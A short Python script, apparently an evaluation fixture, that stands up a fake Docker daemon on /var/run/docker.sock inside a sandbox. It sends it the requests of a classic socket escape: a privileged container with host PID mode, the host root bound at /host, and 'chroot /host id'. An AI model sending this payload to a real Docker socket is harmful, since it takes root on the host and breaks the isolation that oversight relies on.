"""The daemon, and who asks it."""

import http.client
import json
import os
import socket
import threading

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")

PATH = "/var/run/docker.sock"
daemon = socket.socket(socket.AF_UNIX)
os.makedirs("/var/run", exist_ok=True)
daemon.bind(PATH)
daemon.listen()


def serve() -> None:
    for _ in range(3):
        link, _ = daemon.accept()
        link.recv(65536)
        link.sendall(b'HTTP/1.1 201 Created\r\nContent-Length: 11\r\nConnection: close\r\n\r\n{"Id": "a"}')
        link.close()


def ask(method: str, path: str, value: object) -> None:
    connection = http.client.HTTPConnection("localhost")
    connection.sock = socket.socket(socket.AF_UNIX)
    connection.sock.connect(PATH)
    connection.request(method, path, json.dumps(value), {"Content-Type": "application/json"})
    connection.getresponse().read()


threading.Thread(target=serve, daemon=True).start()
host = {"Privileged": True, "PidMode": "host", "Binds": ["/:/host"]}
ask("GET", "/v1.41/images/json", None)
ask("POST", "/v1.41/containers/create", {"Image": "alpine", "Cmd": ["chroot", "/host", "id"], "HostConfig": host})
ask("POST", "/v1.41/containers/a/start", None)
